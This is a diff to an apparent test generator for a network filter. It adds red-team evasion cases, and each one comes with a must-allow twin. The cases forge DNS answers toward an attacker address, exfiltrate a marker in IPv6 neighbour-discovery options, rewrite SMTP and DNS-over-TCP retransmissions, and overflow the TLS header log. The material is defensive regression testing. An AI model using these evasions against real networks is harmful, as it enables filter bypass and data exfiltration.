@@ -696,16 +696,32 @@ def case_hrr_front_ech(n):
     return hrr(n, 42182, 282, FRONT, FRONT_NAME, FRONT_NAME, leak(n), [ext(0xFE0D, ech)]), {"leak": [leak(n)]}
 
 
-@open_case
+@case
 def case_office_hrr_other_vk(n):
     """Office: the first ClientHello for www.example.org (no class: allowed), the
     HelloRetryRequest, then a second ClientHello for m.vk.com, which OpenSSL serves.
-    Open: an office flow allowed without a check (its endpoint declares no applications)
-    is not read after its verdict, so the second hello is never seen (the class of
-    HTTP keep-alive after the verdict, app_http_ka_late_vk). Where it is read (a
-    checked flow), a second hello that names another server is refused whatever the
-    zone does."""
+    The flow is allowed (office default) at the HRR's packet, and an office flow is
+    not checked after its verdict (its endpoint declares no applications): it passed
+    before judge_hrr_watch, which keeps the first-bytes slot of any allowed flow named
+    by a whole hello until the server shows no HRR, or the second hello is read. A
+    second hello that names another server is refused whatever the zone does."""
     return hrr(n, 42183, 283, SOC, "www.example.org", VK, leak(n), client=O1), {"leak": [leak(n)]}
+
+
+@case
+def case_office_hrr_same_ok(n):
+    """Must-allow twin of office_hrr_other_vk: both hellos name www.example.org."""
+    return hrr(n, 42190, 290, SOC, "www.example.org", "www.example.org", passm(n), client=O1), \
+        {"pass": [passm(n)]}
+
+
+@case
+def case_office_hrr_split_vk(n):
+    """office_hrr_other_vk with the HRR cut into 40-byte segments by the client's own
+    window (hrr_split_front's way), so that its 43 bytes are joined after the verdict:
+    the slot must stay while they may still be an HRR's. Must drop."""
+    return hrr_small_window(n, 42191, 291, SOC, "www.example.org", VK, leak(n), client=O1), \
+        {"leak": [leak(n)]}
 
 
 # --- protocol change after an allow
@@ -1527,6 +1543,40 @@ def frag_hello_flow(cap, n, c, cport, s, isn, sni, cut_fn, marker, vlans=()):
         t.raw(True, "PA", h, frag=cut_fn(20 + len(h)))
         t.cseq += len(h)
     return tls_flow(cap, c, cport, s, isn, n, send, marker, vlans=vlans)
+
+
+@case
+def case_office_srv_reorder_ok(n):
+    """Must allow (a false block found by the thirteenth session, no case before): an
+    office flow of a protocol nobody names, to port 9000, still undecided while the
+    server's first 3600 bytes come in three segments reordered on the way to us (1, 3,
+    2). Forwarded, segment 3 (past a gap) was never counted as sent, and once the client
+    had acknowledged all three its next segments were dropped as acknowledging unsent
+    bytes (tcp_bad_ack_early) until the give-up: 9 segments of this flow, the marked
+    one among them. Now segment 3 is dropped until it comes in order. A capture cannot
+    show the client's answer to either: this one is what a client behind the fixed
+    bump sees (it acknowledges segments 1 and 2, the server sends 3 again after its
+    timeout); the honest-world capture of the old stall, with the client's ACK of all
+    three, is described in docs/stream.md."""
+    cap = Capture()
+    t = ETcp(cap, O1, 42194, SOC, 9000, isn=0x42194, rtt_us=20000)
+    t.handshake()
+    t.data(True, b"LOGIN guest\r\n")
+    flight = prand(n + "flight", 3600)
+    base = t.sseq
+    cuts = [0, 1200, 2400, len(flight)]
+    for i in (0, 2, 1):
+        t.raw(False, "PA", flight[cuts[i]:cuts[i + 1]], seq=base + cuts[i])
+        t.raw(True, "A", ack=base + cuts[1 if i != 1 else 2])
+    # the third segment again, in order, after the server's retransmission timeout
+    t.raw(False, "PA", flight[cuts[2]:], seq=base + cuts[2], gap=300000)
+    t.raw(True, "A", ack=base + len(flight))
+    t.sseq = base + len(flight)
+    for i in range(3):
+        t.data(True, b"GET item %d " % i + (passm(n) if i == 2 else b"") + b"\r\n")
+        t.data(False, prand(n + "r%d" % i, 300))
+    t.close()
+    return cap, {"pass": [passm(n)]}
 
 
 def three_frags(total):
@@ -5968,13 +6018,13 @@ def hrr_win_flight(t, seed, chunk, win):
         t.raw(True, "A", window=win)
 
 
-def hrr_small_window(n, cport, isn, server, name1, name2, mark, win=40):
+def hrr_small_window(n, cport, isn, server, name1, name2, mark, win=40, client=S1):
     """TLS 1.3 with a HelloRetryRequest that the client's tiny receive window (40 bytes,
     SYN without Window Scale) makes the server send in 40-byte segments; then the
     client opens its window, sends ChangeCipherSpec and its second ClientHello for
     name2 (mark in its padding), and the session goes on with mark in a record."""
     cap = Capture()
-    t = ETcp(cap, S1, cport, server, 443, isn=isn, rtt_us=20000)
+    t = ETcp(cap, client, cport, server, 443, isn=isn, rtt_us=20000)
     opts = [("MSS", 1460), ("SAckOK", b"")]
     t.raw(True, "S", options=opts, window=win)
     t.cseq += 1
@@ -6279,7 +6329,8 @@ def frag_emit(cap, c, s, frags, order=None, gap=200):
         cap.emit(l2(c, s) / frags[i], gap)
 
 
-def frag_session(cap, n, c, cport, s, sni, cutfn, order=None, before=None, marker=None):
+def frag_session(cap, n, c, cport, s, sni, cutfn, order=None, before=None, marker=None,
+                 mutate=None):
     """A TLS session whose every client data segment (the ClientHello, then CCS, Finished
     and an application record in one segment) is cut into IP fragments at
     cutfn(len of the IP payload), emitted in `order`; before(i) runs ahead of the i-th
@@ -6298,7 +6349,8 @@ def frag_session(cap, n, c, cport, s, sni, cutfn, order=None, before=None, marke
             before(i)
         pkt = ipc(src=c, dst=s) / TCP(sport=cport, dport=443, flags="PA", seq=t.cseq, ack=t.sseq,
                                       window=64240) / Raw(data)
-        frag_emit(cap, c, s, fragments(pkt, cutfn(20 + len(data)), ident=0x4b00 + i), order)
+        frags = fragments(pkt, cutfn(20 + len(data)), ident=0x4b00 + i)
+        frag_emit(cap, c, s, mutate(i, frags) if mutate else frags, order)
         t.cseq += len(data)
         t.ack(False)
         if i == 0:
@@ -6384,6 +6436,42 @@ def case_frag4_sixteen_ok(n):
         return [24 + step * i for i in range(15)]
     frag_session(cap, n, O1, 49005, SOC, "www.example.org", sixteen, marker=passm(n))
     return cap, {"pass": [passm(n)]}
+
+
+def three_frags(total):
+    """2 cuts: 3 fragments, the first with the TCP header and a little more."""
+    step = (total - 24) // 3 // 8 * 8
+    return [24 + step, 24 + 2 * step]
+
+
+@case
+def case_frag4_dup_ok(n):
+    """Must allow (thirteenth session's M5, a false block before): e2m TLS whose
+    every client segment comes in 3 IPv4 fragments, the middle one twice with the same
+    bytes (a frame the network sent twice). Linux drops the duplicate alone
+    (inet_frag_queue_insert: IPFRAG_DUP) and rebuilds the datagram; so must we."""
+    cap = Capture()
+    frag_session(cap, n, S1, 42192, E2M, E2M_NAME, three_frags, order=[0, 1, 1, 2],
+                 marker=passm(n))
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_frag4_dup_diff(n):
+    """Office: the www.example.org hello in 3 IPv4 fragments, the middle one twice, the
+    second copy with other bytes (its last byte flipped). Linux keeps the first copy;
+    other hosts may keep the second: two readings, refused whatever the zone does."""
+    cap = Capture()
+
+    def mutate(i, frags):
+        f = frags[1].copy()
+        raw = bytearray(bytes(f[Raw].load))
+        raw[-1] ^= 0x5a
+        f[Raw].load = bytes(raw)
+        return frags[:2] + [f] + frags[2:]
+    frag_session(cap, n, O1, 42193, SOC, "www.example.org", three_frags, order=[0, 1, 2, 3],
+                 mutate=mutate)
+    return cap, {"leak": [leak(n)]}
 
 
 # --- remote access and proxies whose first messages are cut across TCP segments.
@@ -6719,6 +6807,1251 @@ def case_office_tls12_pending_ok(n):
     t.data(False, tls_appdata(n + "resp", 300))
     t.close()
     return cap, {"pass": [passm(n)]}
+
+
+# ---------------------------------------------------------------------------
+# Red team round 21 (strict zone e2m, the fourteenth session's first helper).
+#   - DNS learning trusts the first answer that matches a remembered query:
+#     an accomplice outside that forges the resolver's answer (the inside
+#     host chose the ID and port) teaches an address of its own for the e2m
+#     name, and the flow there is allowed as e2m (dns_forged_learn);
+#   - IPv6 neighbour discovery (ICMPv6 133..137) is forwarded unjudged whatever
+#     its addresses: a carrier of any bytes to and from any global address
+#     (nd_exfil, nd_inbound);
+#   - the header log (hlog.h) guards TLS flows only: SMTP and DNS over TCP take
+#     no log, so a command line / message lost after us and sent again with
+#     other bytes passes as a retransmission, unread (smtp_loss_rewrite,
+#     dnstcp_loss_rewrite);
+#   - a TLS segment with more than 256 record headers is read with its last
+#     headers unlogged; empty application-data records (5 bytes) put 292 in one
+#     ordinary 1460-byte segment (hlog_empty_rewrite);
+#   - (not a run.sh case, see dhcp_unzoned_pcap at the end) UDP 68 -> 67 from a
+#     source in no zone passes to any destination as a "link service".
+# Honest twins: *_ok; control: hlog_empty_rw_ctl.
+# Ports 43001-43999.
+
+ATK = "198.18.0.66"          # the attacker's server (no endpoint)
+ATK_OK = "198.51.100.200"    # an address the resolver genuinely gives for e2m (outside the /28)
+
+
+def forged_dns_answer(qid, name, addr, ttl=300):
+    return bytes(DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype="A"),
+                     an=DNSRR(rrname=name, type="A", ttl=ttl, rdata=addr)))
+
+
+def dns_learn_flow(cap, cport, qid, answers):
+    """A query for the e2m name from the inside host, then the given answers
+    (in that order) from the resolver's address on the outside port."""
+    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
+    udp(cap, S1, cport, RESOLVER, 53, q)
+    for a in answers:
+        udp(cap, RESOLVER, 53, S1, cport, a, gap=2000)
+    return q
+
+
+@case
+def case_dns_forged_learn(n):
+    """An accomplice outside forges the resolver's answer (ID and port told by the inside
+    host, which chose them): e2m.customs.example is 198.18.0.66, the attacker's server. It
+    arrives first; the resolver's true answer (198.51.100.5) follows. It was ignored as a
+    second answer, and a TLS session with the e2m name to the attacker's address passed,
+    with a record holding the exfil marker. Now two answers that differ take back what
+    either taught (judge_learn_conflict)."""
+    cap = Capture()
+    dns_learn_flow(cap, 43001, 0x2201, [forged_dns_answer(0x2201, E2M_NAME, ATK),
+                                    forged_dns_answer(0x2201, E2M_NAME, E2M)])
+    cap.idle(0.05)
+    tls_flow(cap, S1, 43002, ATK, 2201, n, send_whole(hello(n)), leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_dns_forged_race(n):
+    """dns_forged_learn with the TLS session to the forged address opened before the
+    resolver's true answer comes: allowed (as e2m, by the address the forgery taught)
+    until then; the conflict takes the address back and every worker judges again the
+    flows allowed through learned addresses (judge_relearn): the exfil record after it
+    must not pass."""
+    cap = Capture()
+    q = bytes(DNS(id=0x2202, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
+    udp(cap, S1, 43007, RESOLVER, 53, q)
+    udp(cap, RESOLVER, 53, S1, 43007, forged_dns_answer(0x2202, E2M_NAME, ATK), gap=1000)
+    t = ETcp(cap, S1, 43008, ATK, 443, isn=0x2202, rtt_us=2000)
+    t.handshake()
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    udp(cap, RESOLVER, 53, S1, 43007, forged_dns_answer(0x2202, E2M_NAME, E2M), gap=1000)
+    cap.idle(0.1)
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(leak(n), n))
+    t.data(False, tls_appdata(n + "resp", 300))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_dns_learn_ok(n):
+    """Honest twin: the resolver's one answer gives the e2m name a new address (outside the
+    configured /28); a session there with the e2m name is allowed."""
+    cap = Capture()
+    dns_learn_flow(cap, 43003, 0x2203, [forged_dns_answer(0x2203, E2M_NAME, ATK_OK)])
+    cap.idle(0.05)
+    tls_flow(cap, S1, 43004, ATK_OK, 2203, n, send_whole(hello(n)), passm(n))
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_dns_learn_dup_ok(n):
+    """Honest twin: the same answer twice (a duplicated datagram); a session is allowed."""
+    cap = Capture()
+    a = forged_dns_answer(0x2205, E2M_NAME, ATK_OK)
+    dns_learn_flow(cap, 43005, 0x2205, [a, a])
+    cap.idle(0.05)
+    tls_flow(cap, S1, 43006, ATK_OK, 2205, n, send_whole(hello(n)), passm(n))
+    return cap, {"pass": [passm(n)]}
+
+
+@open_case
+def case_smtp_loss_rewrite(n):
+    """SMTP before STARTTLS (no header log): after the greeting, EHLO and MAIL FROM (the
+    relay's answers close the first-bytes slot), a NOOP line passes
+    us and is lost on the way on; the same sequence number then carries an SSH banner and
+    binary packet (to us a retransmission: forwarded unread)."""
+    cap = Capture()
+    t = ETcp(cap, S1, 43010, MAIL, 25, isn=2210, rtt_us=4000)
+    t.handshake()
+    smtp_start(t, False)
+    t.data(True, b"MAIL FROM:<declarant@e2m.customs.example>\r\n")
+    t.data(False, b"250 2.1.0 Ok\r\n")
+    base = t.cseq
+    swap = SSH_BANNER + ssh_binary(n, leak(n))
+    noop = b"NOOP " + b"x" * (len(swap) - 7) + b"\r\n"
+    assert len(noop) == len(swap)
+    t.raw(True, "PA", noop, seq=base)
+    t.raw(True, "PA", swap, seq=base, gap=300000)
+    t.cseq = base + len(swap)
+    t.raw(False, "A")
+    t.data(False, b"250 2.0.0 Ok\r\n")
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_smtp_resend_ok(n):
+    """Honest twin: after the first-bytes slot closed (as in smtp_loss_rewrite), a
+    command line lost after us, sent again byte for byte (and once more
+    as part of a longer segment with the next command)."""
+    cap = Capture()
+    t = ETcp(cap, S1, 43011, MAIL, 25, isn=2211, rtt_us=4000)
+    t.handshake()
+    smtp_start(t, False)
+    t.data(True, b"NOOP\r\n")
+    t.data(False, b"250 2.0.0 Ok\r\n")
+    base = t.cseq
+    l1 = b"MAIL FROM:<declarant@e2m.customs.example>\r\n"
+    l2_ = b"RCPT TO:<office@customs.example>\r\n"
+    t.raw(True, "PA", l1, seq=base)
+    t.raw(True, "PA", l1, seq=base, gap=300000)
+    t.raw(True, "PA", l1 + l2_, seq=base, gap=300000)
+    t.cseq = base + len(l1) + len(l2_)
+    t.raw(False, "A")
+    t.data(False, b"250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n")
+    for c, s in ((b"DATA\r\n", b"354 End data with <CR><LF>.<CR><LF>\r\n"),
+                 (b"Subject: declaration\r\n\r\n" + passm(n) + b"\r\n.\r\n", b"250 2.0.0 Ok: queued\r\n"),
+                 (b"QUIT\r\n", b"221 2.0.0 Bye\r\n")):
+        t.data(True, c)
+        t.data(False, s)
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@open_case
+def case_dnstcp_loss_rewrite(n):
+    """DNS over TCP (no header log): after a genuine query and answer, a second query
+    passes us and is lost on the way on; the same sequence number then carries a message
+    length and bytes of no DNS (to us a retransmission: forwarded unread)."""
+    cap = Capture()
+    t = ETcp(cap, S1, 43012, RESOLVER, 53, isn=2212, rtt_us=4000)
+    t.handshake()
+    q, a = dns_pair(E2M_NAME, "A", 0x2212, E2M)
+    t.data(True, q)
+    t.data(False, a)
+    q2, a2 = dns_pair("www.e2m.customs.example", "A", 0x2213, E2M)
+    body = leak(n) + prand(n, len(q2) - 2 - len(leak(n)))
+    swap = struct.pack("!H", len(body)) + body
+    assert len(swap) == len(q2)
+    base = t.cseq
+    t.raw(True, "PA", q2, seq=base)
+    t.raw(True, "PA", swap, seq=base, gap=300000)
+    t.cseq = base + len(q2)
+    t.raw(False, "A")
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_dnstcp_resend_ok(n):
+    """Honest twin: a query over TCP lost after us and sent again byte for byte."""
+    cap = Capture()
+    t = ETcp(cap, S1, 43013, RESOLVER, 53, isn=2213, rtt_us=4000)
+    t.handshake()
+    q, a = dns_pair(E2M_NAME, "A", 0x2214, E2M)
+    t.data(True, q)
+    t.data(False, a)
+    q2, a2 = dns_pair("www.e2m.customs.example", "A", 0x2215, E2M)
+    base = t.cseq
+    t.raw(True, "PA", q2, seq=base)
+    t.raw(True, "PA", q2, seq=base, gap=300000)
+    t.cseq = base + len(q2)
+    t.raw(False, "A")
+    t.data(False, a2)
+    t.close()
+    return cap, {"pass": [q2, a2]}
+
+
+# IPv6 neighbour discovery is forwarded unjudged (judge_packet: parse_is_nd), whatever
+# its addresses, hop limit, length or options: an ICMPv6 type 133..137 datagram to a
+# global address outside is routed like any other, and carries any bytes.
+
+ATK6 = "2001:db8:ffff::66"   # the attacker's server, outside (no endpoint)
+
+
+def nd_big_opt(marker, seed, n=1000):
+    """An ND option of an unassigned type (253: RFC 4727 experimental), n bytes (8k)."""
+    body = marker + prand(seed, n - 2 - len(marker))
+    return bytes([253, n // 8]) + body
+
+
+def nd_carrier6(cap, cport, isn):
+    """A TCP SYN from the strict-zone host to the attacker's address: refused at its first
+    packet (default drop); the line that scores the case."""
+    t = ETcp(cap, S6, cport, ATK6, 443, isn=isn, rtt_us=4000)
+    t.raw(True, "S")
+    return t
+
+
+@case
+def case_nd_exfil(n):
+    """Strict zone: the host sends the attacker's server (a global address outside) ICMPv6
+    Neighbor Advertisements, Solicitations, Router Solicitations and Redirects, each with
+    a 1000-byte option holding the exfil marker (routers forward them by destination like
+    any datagram; the attacker reads them raw). Its TCP to the same address is refused."""
+    from scapy.layers.inet6 import ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RS, ICMPv6ND_Redirect
+    cap = Capture()
+    nd_carrier6(cap, 43020, 2220)
+    for i, icmp in enumerate((ICMPv6ND_NA(tgt=S6, R=0, S=0, O=1), ICMPv6ND_NS(tgt=ATK6),
+                              ICMPv6ND_RS(), ICMPv6ND_Redirect(tgt=S6, dst=ATK6))):
+        pkt = IPv6(src=S6, dst=ATK6, hlim=255) / icmp / Raw(nd_big_opt(leak(n), "%s%d" % (n, i)))
+        cap.emit(l2(S6, ATK6) / pkt, 2000)
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_nd_inbound(n):
+    """Strict zone, the other way (a command channel): the attacker's server sends the
+    host Neighbor Advertisements with a 1000-byte option (hop limit 64: they crossed
+    routers). The strict zone drops inbound flows; its host's TCP there is refused."""
+    from scapy.layers.inet6 import ICMPv6ND_NA
+    cap = Capture()
+    nd_carrier6(cap, 43021, 2221)
+    for i in range(3):
+        pkt = (IPv6(src=ATK6, dst=S6, hlim=64) / ICMPv6ND_NA(tgt=ATK6, R=0, S=1, O=1)
+               / Raw(nd_big_opt(leak(n), "%s%d" % (n, i))))
+        cap.emit(l2(ATK6, S6) / pkt, 2000)
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_nd_ok(n):
+    """Honest twin: the strict-zone host resolves its router (a Neighbor Solicitation to the
+    solicited-node multicast address, hop limit 255, with its link-layer address and a
+    nonce option, RFC 3971, that holds the PASS marker), the router's Neighbor
+    Advertisement back, a Router Solicitation to all-routers; then an e2m session over IPv6."""
+    from scapy.layers.inet6 import ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RS, ICMPv6NDOptSrcLLAddr
+    cap = Capture()
+    gw = "2001:db8:e2::1"
+    nonce = bytes([14, 2]) + passm(n)[:14].ljust(14, b"-")
+    ns = (IPv6(src=S6, dst="ff02::1:ff00:1", hlim=255) / ICMPv6ND_NS(tgt=gw)
+          / ICMPv6NDOptSrcLLAddr(lladdr=rt_host_mac(S6)) / Raw(nonce))
+    cap.emit(Ether(src=rt_host_mac(S6), dst="33:33:ff:00:00:01") / ns, 2000)
+    na = IPv6(src="fe80::1", dst=S6, hlim=255) / ICMPv6ND_NA(tgt=gw, R=1, S=1, O=1)
+    cap.emit(Ether(src="02:00:00:00:fe:01", dst=rt_host_mac(S6)) / na, 2000)
+    rs = IPv6(src=S6, dst="ff02::2", hlim=255) / ICMPv6ND_RS() / ICMPv6NDOptSrcLLAddr(lladdr=rt_host_mac(S6))
+    cap.emit(Ether(src=rt_host_mac(S6), dst="33:33:00:00:00:02") / rs, 2000)
+    tls_flow(cap, S6, 43022, E2M6, 2222, n, send_whole(hello(n)), passm(n))
+    return cap, {"pass": [passm(n)[:14]]}
+
+
+def rt_host_mac(addr):
+    import hashlib
+    h = hashlib.sha256(addr.encode()).digest()
+    return "02:%02x:%02x:%02x:%02x:%02x" % tuple(h[:5])
+
+
+# UDP 68 -> 67 from a source in no zone (red team round 21): run.sh's replay puts such a frame
+# on the outside port, so tests/unit/test_parse.c holds parse_is_link_service to 0.0.0.0 ->
+# 255.255.255.255 instead.
+
+
+# The header log holds 256 headers a direction; a segment that alone has more is read with
+# its last headers unlogged (judge_conform_read, n0 == 0: hlog_jumbo_ok). No jumbo frame is
+# needed for that: application-data records of 0 bytes (conform_tls_header lets type 23 be
+# empty) are 5 bytes each, 292 of them in one 1460-byte segment.
+
+@case
+def case_hlog_empty_rewrite(n, k=292):
+    """After an allowed e2m session whose bytes the server acknowledged, one 1460-byte DF
+    segment of 292 empty application-data records (the log takes 256 of their headers, the
+    last 36 are read and not logged), lost after us; the client sends the same 256 records
+    and then plaintext HTTP at the place of the other 36: the bytes compared all agree."""
+    cap = Capture()
+    t = tls_established(cap, S1, 43030, E2M, 2230, n)
+    base = t.cseq
+    recs = b"\x17\x03\x03\x00\x00" * k
+    http = http_leak(n)
+    keep = 5 * (256 if k > 256 else k // 2)
+    assert len(http) <= len(recs) - keep
+    copy2 = recs[:keep] + http + b"x" * (len(recs) - keep - len(http))
+    t.raw(True, "PA", recs, seq=base, ipkw={"flags": "DF"})
+    t.raw(True, "PA", copy2, seq=base, gap=200000, ipkw={"flags": "DF"})
+    t.cseq = base + len(recs)
+    t.raw(False, "A")
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_hlog_empty_rw_ctl(n):
+    """Control: 250 empty records (the log holds every header), the same rewrite: refused."""
+    return case_hlog_empty_rewrite(n, k=250)
+
+
+@case
+def case_hlog_small_resend_ok(n):
+    """Honest twin: Nagle-coalesced small records (66 records of 22 bytes in one segment),
+    the segment lost after us and sent again byte for byte, then a marked record."""
+    cap = Capture()
+    t = tls_established(cap, S1, 43031, E2M, 2231, n)
+    base = t.cseq
+    recs = small_records(n, 66, 17)
+    t.raw(True, "PA", recs, seq=base, ipkw={"flags": "DF"})
+    t.raw(True, "PA", recs, seq=base, gap=200000, ipkw={"flags": "DF"})
+    t.cseq = base + len(recs)
+    t.raw(False, "A")
+    t.data(True, marked_record(passm(n), n + "after", 40))
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+# ---------------------------------------------------------------------------
+# Red team round 23 (office zone), 52 cases, ports 44001-44105 (paste before
+# `def main` in tests/evasion/gen.py; lines in /tmp/rt23_exp.tsv).
+#  - names past a reader's bound: a 17 KB ClientHello (tls_ch_names reads
+#    nothing past TLS_CH_MAX), an HTTP head whose Host lies past HS_SCAN_MAX
+#    (2048) cut by a segment boundary, or past the 16 KiB slot;
+#  - the HelloRetryRequest watch (judge_hrr_watch): a first hello our reader
+#    refuses (office allows the exception, no slot kept), a server HRR
+#    fragmented over records, a second hello pipelined behind an alert or
+#    early data (judge_hello_tail stops there), a low-TTL second-hello decoy;
+#  - insertion before the verdict in the office (TTL 1, TCP-MD5 decoys);
+#  - the classify budget: bare ACKs / keep-alive probes / idle time before the
+#    first payload (SSH, SOCKS, TLS), UDP junk before DHT;
+#  - proxy signatures: SOCKS5 greeting+CONNECT pipelined, SOCKS4 + data, long
+#    SOCKS4 user id, h2c CONNECT; AnyDesk's ALPN in a split hello;
+#  - QUIC HelloRetryRequest (a false block);
+#  and must-allow twins (*_ok) and controls (*_ctl).
+# ---------------------------------------------------------------------------
+
+def rt_send_mss(t, data, mss=1448, from_client=True):
+    """data in MSS-sized segments, each acknowledged by the peer."""
+    for i in range(0, len(data), mss):
+        t.data(from_client, data[i:i + mss])
+
+
+def rt_big_hs(seed, sni, pad_len, sni_first=False, sid=None):
+    """A ClientHello whose padding extension (21) is pad_len bytes; the
+    server_name extension after it (or first with sni_first)."""
+    pad = ext(21, b"\x00" * pad_len)
+    s = sni_ext([sni_entry(sni.encode())])
+    exts = ([s, pad] if sni_first else [pad, s]) + std_exts(seed) + [alpn_ext()]
+    return hs_client_hello(seed, sid=sid, exts=exts)
+
+
+def rt_records(msg, size=16384, version=0x0301):
+    """A handshake message in records of at most `size` bytes."""
+    return b"".join(record(22, msg[i:i + size], version) for i in range(0, len(msg), size))
+
+
+def rt_big_flow(n, cport, isn, sni, mark, pad_len=17000, sni_first=False):
+    cap = Capture()
+    t = ETcp(cap, O1, cport, SOC, 443, isn=isn, rtt_us=20000)
+    t.handshake()
+    rt_send_mss(t, rt_records(rt_big_hs(n, sni, pad_len, sni_first)))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(mark, n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap
+
+
+@case
+def case_big_hello_vk(n):
+    """Office: a 17 KB ClientHello (padding first, then server_name m.vk.com) in two
+    records of 16384 and ~700 bytes. OpenSSL takes hellos up to 128 KiB across records
+    (Go 64 KiB). Our reader refuses it as too_long (an exception the office allows);
+    tls_ch_names refuses to read past the same bound, so no name is looked up; nDPI
+    sees a truncated hello in the first record. Must drop (social or refused)."""
+    return rt_big_flow(n, 44001, 4401, VK, leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_big_hello_sni1_vk(n):
+    """The same, server_name first (in the first record), padding after it."""
+    return rt_big_flow(n, 44002, 4402, VK, leak(n), sni_first=True), {"leak": [leak(n)]}
+
+
+@case
+def case_big_hello_fb(n):
+    """The same for www.facebook.com, server_name first (nDPI's host table)."""
+    return rt_big_flow(n, 44003, 4403, FB, leak(n), sni_first=True), {"leak": [leak(n)]}
+
+
+@case
+def case_big_hello_over(n):
+    """The red team's must-allow twin of big_hello_vk (the same 17 KB hello for
+    www.example.org): refused whatever the zone does. A hello longer than the 16 KiB
+    our reader holds names what we cannot read; no browser sends one (a post-quantum
+    key share adds about 1.2 KB)."""
+    return rt_big_flow(n, 44004, 4404, "www.example.org", leak(n)), {"leak": [leak(n)]}
+
+
+def rt_big_http(n, cport, isn, host, mark, cookie=6000, ncookie=3, host_first=False):
+    cap = Capture()
+    t = ETcp(cap, O1, cport, SOC, 80, isn=isn, rtt_us=20000)
+    t.handshake()
+    head = b"GET / HTTP/1.1\r\n" + (b"Host: " + host + b"\r\n" if host_first else b"")
+    head += b"User-Agent: Mozilla/5.0\r\n"
+    for i in range(ncookie):
+        head += b"Cookie: c%d=" % i + b"a" * cookie + b"\r\n"
+    if not host_first:
+        head += b"Host: " + host + b"\r\n"
+    head += b"X-Mark: " + mark + b"\r\nAccept: */*\r\n\r\n"
+    rt_send_mss(t, head)
+    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n" + mark + b"x" * 20)
+    t.close()
+    return cap
+
+
+@case
+def case_http_big_vk(n):
+    """Office HTTP: three 6 KB Cookie lines (nginx takes 4 x 8 KB of header lines,
+    Apache 8 KB per line), then Host: m.vk.com past 16 KiB: the head is read from the
+    slot only as far as it holds (judge_http_head), nDPI reads the first segment."""
+    return rt_big_http(n, 44011, 4411, b"m.vk.com", leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_http_big_late(n):
+    """The red team's must-allow twin of http_big_vk (the same head for
+    www.example.org): refused whatever the zone does. A head longer than the 16 KiB we
+    hold whose Host line lies past them names a host we cannot read; browsers and curl
+    send Host first (http_big_first_ok)."""
+    return rt_big_http(n, 44012, 4412, b"www.example.org", leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_http_big_first_ok(n):
+    """Must allow: 18 KB of cookies after the Host line (www.example.org), as browsers
+    order a head."""
+    return rt_big_http(n, 44013, 4413, b"www.example.org", passm(n), host_first=True), \
+        {"pass": [passm(n)]}
+
+
+def rt_hrr_custom(n, cport, isn, ch1, name2, mark, sid=None):
+    """hrr() with a hand-made first hello (record bytes ch1)."""
+    cap = Capture()
+    t = ETcp(cap, O1, cport, SOC, 443, isn=isn, rtt_us=20000)
+    t.handshake()
+    t.data(True, ch1)
+    t.data(False, hrr_flight(n))
+    pad = ext(21, mark + b"\x00" * 40)
+    t.data(True, CCS + hello(n, sni=name2, sid=sid, extra=[pad]))
+    t.data(False, server_hello_flight(n))
+    t.data(True, tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(mark, n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap
+
+
+@case
+def case_hrr_dot_vk(n):
+    """Office: the first hello names www.example.org. (trailing dot: our reader refuses
+    it, the office allows the exception, the flow is allowed and its slot closed:
+    judge_hrr_watch wants a hello read whole); the server's HRR; the second hello names
+    m.vk.com (OpenSSL reads the new name). Must drop."""
+    return rt_hrr_custom(n, 44021, 4421, hello(n, sni="www.example.org."), "m.vk.com", leak(n)), \
+        {"leak": [leak(n)]}
+
+
+@case
+def case_hrr_dot_twice(n):
+    """Both hellos name www.example.org. (trailing dot, which RFC 6066 rules out and our
+    reader refuses): the red team's must-allow twin of hrr_dot_vk. Refused whatever the
+    zone does: neither hello can be read, so the second cannot be judged by its name
+    (judge_hello2). A cost accepted: no browser sends a trailing dot."""
+    return rt_hrr_custom(n, 44022, 4422, hello(n, sni="www.example.org."), "www.example.org.",
+                         leak(n)), {"leak": [leak(n)]}
+
+
+def rt_many_ext_hello(seed, sni, count=70):
+    """A ClientHello with `count` extensions (unknown private types 0xff00+i
+    with no data, ignored by servers): over TLS_CH_MAX_EXT (64)."""
+    exts = [sni_ext([sni_entry(sni.encode())])] + std_exts(seed)
+    exts += [ext(0xfe00 + i, b"") for i in range(count - len(exts) - 1)] + [alpn_ext()]
+    return record(22, hs_client_hello(seed, exts=exts))
+
+
+@case
+def case_hrr_ext70_vk(n):
+    """Office: the first hello has 70 extensions (too_many_extensions: an exception the
+    office allows; OpenSSL ignores unknown ones), www.example.org; HRR; the second
+    hello names m.vk.com. Must drop."""
+    return rt_hrr_custom(n, 44023, 4423, rt_many_ext_hello(n, "www.example.org"), "m.vk.com",
+                         leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_hrr_alert_vk(n):
